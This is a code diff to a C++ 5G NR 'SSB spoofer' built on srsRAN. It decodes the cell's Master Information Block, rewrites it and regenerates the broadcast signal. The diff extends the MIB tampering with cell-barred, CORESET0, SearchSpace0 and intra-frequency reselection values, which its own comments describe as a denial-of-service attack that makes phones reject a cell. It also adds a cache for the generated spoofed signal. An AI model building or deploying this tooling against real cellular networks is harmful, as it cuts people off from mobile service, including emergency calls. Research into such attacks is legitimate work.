@@ -8,6 +8,7 @@
 #include <iomanip>
 #include <algorithm>
 #include <complex>
+#include <cmath>
 
 namespace ssb_spoofer {
 
@@ -41,6 +42,7 @@ bool SsbProcessor::init(const SsbConfig& config, double srate_hz, double center_
   args.enable_decode        = true;
   args.disable_polar_simd   = false;
   args.pbch_dmrs_thr        = 0.0f; // Use default
+  args.pss_prescreen_thr    = config.pss_prescreen_thr;
   
   std::cout << "Initializing SSB processor..." << std::endl;
   if (srsran_ssb_init(&ssb_, &args) != SRSRAN_SUCCESS) {
@@ -94,6 +96,9 @@ bool SsbProcessor::configure(const SsbConfig& config, double srate_hz, double ce
       return false;
   }
   
+  // Templates depend on the sample rate and frequencies
+  template_cache_.clear();
+  
   std::cout << "SSB processor configured successfully" << std::endl;
   return true;
 }
@@ -150,16 +155,21 @@ bool SsbProcessor::decode_mib(const srsran_pbch_msg_nr_t& pbch_msg, srsran_mib_n
   return true;
 }
 
-bool SsbProcessor::modify_mib(srsran_mib_nr_t& mib, const AttackConfig& attack_config) {
+bool SsbProcessor::modify_mib(srsran_mib_nr_t& mib, const AttackConfig& attack_config, bool verbose) {
   bool modified = false;
   
-  std::cout << "\n=== Modifying MIB for SSB Spoofing Attack ===" << std::endl;
+  if (verbose) {
+      std::cout << "\n=== Modifying MIB for SSB Spoofing Attack ===" << std::endl;
+  }
   
   // PRIMARY ATTACK: Mark cell as barred - most effective DoS
   if (attack_config.modify_cell_barred) {
-      std::cout << "  [ATTACK] Cell Barred: " << (mib.cell_barred ? "true" : "false") 
-                << " -> true (UE will reject this cell)" << std::endl;
-      mib.cell_barred = true;
+      if (verbose) {
+          std::cout << "  [ATTACK] Cell Barred: " << (mib.cell_barred ? "true" : "false") 
+                    << " -> " << (attack_config.cell_barred_value ? "true (UE will reject this cell)" : "false")
+                    << std::endl;
+      }
+      mib.cell_barred = attack_config.cell_barred_value;
       modified = true;
   }
   
@@ -167,8 +177,10 @@ bool SsbProcessor::modify_mib(srsran_mib_nr_t& mib, const AttackConfig& attack_c
   if (attack_config.modify_coreset0_idx) {
       uint8_t original = mib.coreset0_idx;
       mib.coreset0_idx = attack_config.coreset0_idx_value;
-      std::cout << "  [ATTACK] CORESET0 Index: " << (int)original << " -> " 
-                << (int)mib.coreset0_idx << " (invalid PDCCH config)" << std::endl;
+      if (verbose) {
+          std::cout << "  [ATTACK] CORESET0 Index: " << (int)original << " -> " 
+                    << (int)mib.coreset0_idx << " (invalid PDCCH config)" << std::endl;
+      }
       modified = true;
   }
   
@@ -176,11 +188,27 @@ bool SsbProcessor::modify_mib(srsran_mib_nr_t& mib, const AttackConfig& attack_c
   if (attack_config.modify_ss0_idx) {
       uint8_t original = mib.ss0_idx;
       mib.ss0_idx = attack_config.ss0_idx_value;
-      std::cout << "  [ATTACK] SearchSpace0 Index: " << (int)original << " -> " 
-                << (int)mib.ss0_idx << " (invalid SIB1 search space)" << std::endl;
+      if (verbose) {
+          std::cout << "  [ATTACK] SearchSpace0 Index: " << (int)original << " -> " 
+                    << (int)mib.ss0_idx << " (invalid SIB1 search space)" << std::endl;
+      }
+      modified = true;
+  }
+  
+  // Steer reselection of UEs that treat the cell as barred
+  if (attack_config.modify_intra_freq_resel) {
+      if (verbose) {
+          std::cout << "  [ATTACK] Intra-Freq Reselection: " << (mib.intra_freq_reselection ? "allowed" : "not allowed")
+                    << " -> " << (attack_config.intra_freq_resel_value ? "allowed" : "not allowed") << std::endl;
+      }
+      mib.intra_freq_reselection = attack_config.intra_freq_resel_value;
       modified = true;
   }
   
+  if (!verbose) {
+      return modified;
+  }
+  
   // Keep original timing parameters for better UE reception
   std::cout << "  [INFO] Keeping SFN: " << mib.sfn << " (for timing consistency)" << std::endl;
   std::cout << "  [INFO] Keeping SSB Offset: " << mib.ssb_offset << std::endl;
@@ -244,6 +272,44 @@ uint32_t SsbProcessor::generate_ssb(uint32_t pci, const srsran_pbch_msg_nr_t& pb
   return sf_size;
 }
 
+const SsbTemplate* SsbProcessor::get_ssb_template(uint32_t pci, const srsran_pbch_msg_nr_t& pbch_msg,
+                                                 uint32_t ssb_idx, bool* cache_hit) {
+  // Everything that changes the generated signal goes into the key
+  std::string key(reinterpret_cast<const char*>(pbch_msg.payload), sizeof(pbch_msg.payload));
+  key.push_back(static_cast<char>(pbch_msg.sfn_4lsb));
+  key.push_back(static_cast<char>(pbch_msg.k_ssb_msb));
+  key.push_back(static_cast<char>(pbch_msg.hrf));
+  key.append(reinterpret_cast<const char*>(&pci), sizeof(pci));
+  key.append(reinterpret_cast<const char*>(&ssb_idx), sizeof(ssb_idx));
+  
+  auto it = template_cache_.find(key);
+  if (cache_hit) {
+      *cache_hit = (it != template_cache_.end());
+  }
+  if (it != template_cache_.end()) {
+      return &it->second;
+  }
+  
+  SsbTemplate tmpl;
+  tmpl.samples.resize(get_subframe_size());
+  if (tmpl.samples.empty() || generate_ssb(pci, pbch_msg, tmpl.samples.data(), ssb_idx) == 0) {
+      return nullptr;
+  }
+  
+  const cf_t* cf_samples = reinterpret_cast<const cf_t*>(tmpl.samples.data());
+  tmpl.rms = std::sqrt(srsran_vec_avg_power_cf(cf_samples, (uint32_t)tmpl.samples.size()));
+  
+  return &template_cache_.emplace(std::move(key), std::move(tmpl)).first->second;
+}
+
+srsran_ssb_prescreen_metrics_t SsbProcessor::get_prescreen_metrics() {
+  srsran_ssb_prescreen_metrics_t metrics = {};
+  if (initialized_) {
+      srsran_ssb_get_prescreen_metrics(&ssb_, &metrics);
+  }
+  return metrics;
+}
+
 uint32_t SsbProcessor::get_ssb_size() const {
   if (!initialized_) {
       return 0;